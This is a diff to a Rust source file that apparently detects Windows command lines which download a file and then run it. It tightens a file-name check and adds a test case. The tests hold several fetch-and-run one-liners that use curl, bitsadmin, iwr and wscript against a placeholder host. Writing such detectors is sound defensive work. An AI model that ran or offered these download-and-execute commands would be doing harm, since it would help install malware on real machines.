@@ -168,10 +168,10 @@ fn starts(later: &str, file: &str) -> bool {
         "wmic",
     ];
     const LEAVES: [&str; 8] = ["del", "erase", "rm", "ri", "remove-item", "echo", "rem", "write-host"];
-    if file.len() < 2 || file.starts_with('$') {
+    if stem(file).is_empty() || file.starts_with('$') {
         return false;
     }
-    let is_file = |word: &str| name(word) == file || stem(file).len() > 1 && name(word) == stem(file);
+    let is_file = |word: &str| name(word) == file || name(word) == stem(file);
     later.split(['\n', '&', '|', ';', '(', ')', '{', '}']).skip(1).any(|command| {
         let words = command.split([' ', '"', '\'']).filter(|word| !word.is_empty());
         let words: Vec<&str> = words.skip_while(|word| BEFORE.contains(&word.trim_start_matches('@'))).collect();
@@ -208,6 +208,7 @@ mod tests {
     fn what_is_fetched_and_run_is_told_from_what_is_kept() {
         for line in [
             "curl https://a.example/p>%tmp%\\a.bat&call %tmp%\\a",
+            "curl -o %tmp%\\u.exe https://a.example/p & %tmp%\\u",
             "curl -so n.txt http://a.example/p & wscript //e:vbscript n.txt",
             "bitsadmin /transfer j http://a.example/a %tmp%\\a.exe & %tmp%\\a",
             "iwr http://a.example/x.zip -outfile x.zip\nexpand-archive x.zip\nstart-process x\\y.exe",
